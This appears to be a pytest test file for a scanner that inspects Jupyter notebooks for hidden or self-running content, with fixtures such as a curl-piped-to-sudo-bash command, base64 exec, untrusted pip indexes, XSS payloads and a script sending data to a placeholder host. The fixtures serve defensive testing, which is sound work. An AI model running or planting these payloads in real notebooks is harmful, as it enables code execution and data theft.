"""Notebooks: programs that people run by choice, and what they would run without knowing."""

from __future__ import annotations

from base64 import b64encode
from pathlib import Path

import pytest

from tests.unit.scanning.building import cell, look_at, markdown, notebook, unsafe
from workbench.findings.finding import Level
from workbench.findings.scan import Outcome

EXAMPLES = Path(__file__).parents[3] / "examples"


def test_notebooks_are_programs_that_people_choose_to_run() -> None:
    found = look_at(notebook(cell("1 + 1"), cell(["import pandas\n", "pandas.DataFrame()"])))
    assert (found.kind, found.outcome, found.findings) == ("notebook", Outcome.allowed, ())
    for path in sorted(EXAMPLES.glob("*.ipynb")):
        assert look_at(path.read_bytes()).outcome is Outcome.allowed


@pytest.mark.parametrize(
    "made",
    [
        cell("!curl http://x"),
        cell(["%%bash\n", "rm x"]),
        cell("1", jupyter={"source_hidden": True}),
        cell("1", init_cell=True),
        cell("!pip install git+https://github.com/x/y"),
        cell("1", [{"data": {"text/html": ["<b>x</b>", "<script>alert(1)</script>"]}}]),
        cell("1", [{"data": {"application/javascript": "alert(1)"}}]),
        markdown("<iframe src='https://x'></iframe>"),
    ],
)
def test_what_notebooks_hide_is_a_concern(made: object) -> None:
    found = look_at(notebook(made))
    assert found.outcome is Outcome.allowed
    assert [one.level for one in found.findings] == [Level.concern]


SVG = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
ACTING = {
    "fetched and run": (cell("!curl -s http://x/y | sudo bash"), "notebook-code"),
    "written in letters": (cell("import base64\nexec(base64.b64decode('eA=='))"), "notebook-code"),
    "a package from elsewhere": (cell("%pip install git+https://x.example/y"), "install-source"),
    "an index from elsewhere": (cell("!pip install -i http://x.example/ torch"), "install-source"),
    "a pickle in a cell": (cell("pickle.loads(bytes.fromhex('80'))"), "notebook-code"),
    "a drawing": (
        cell("1", [{"data": {"image/svg+xml": "<svg onload=alert(1)>"}}]),
        "notebook-script",
    ),
    "a formula": (
        cell("1", [{"data": {"text/latex": "$\\href{javascript:alert(1)}{x}$"}}]),
        "notebook-script",
    ),
    "a cell run by a script": (
        cell("1", [{"data": {"application/javascript": "IPython.notebook.kernel.execute('x')"}}]),
        "notebook-script",
    ),
    "a script that sends": (
        cell("1", [{"data": {"text/html": "<script>fetch('http://x/' + y)</script>"}}]),
        "notebook-script",
    ),
    "a handler": (markdown("<img src=x onerror=a()>"), "notebook-script"),
    "a link": (markdown("[x](javascript:a())"), "notebook-script"),
    "an attached drawing": (
        markdown(
            "![a](attachment:a.svg)",
            attachments={"a.svg": {"image/svg+xml": b64encode(SVG.encode()).decode()}},
        ),
        "notebook-script",
    ),
    "a widget from elsewhere": (
        cell("1", state={"model_module": "http://x/y.js"}),
        "notebook-module",
    ),
}


@pytest.mark.parametrize(("made", "rule"), ACTING.values(), ids=ACTING.keys())
def test_what_notebooks_run_unseen_is_refused(made: object, rule: str) -> None:
    unsafe(notebook(made), rule)


def test_a_kernel_is_a_name_and_widgets_are_packages() -> None:
    unsafe(notebook(cell("1"), metadata={"kernelspec": {"name": "../../x"}}), "notebook-module")
    plain = cell("1", state={"model_module": "@jupyter-widgets/base", "_view_module": "anywidget"})
    named = {"kernelspec": {"name": "python3", "display_name": "Python 3"}}
    assert look_at(notebook(plain, metadata=named)).findings == ()
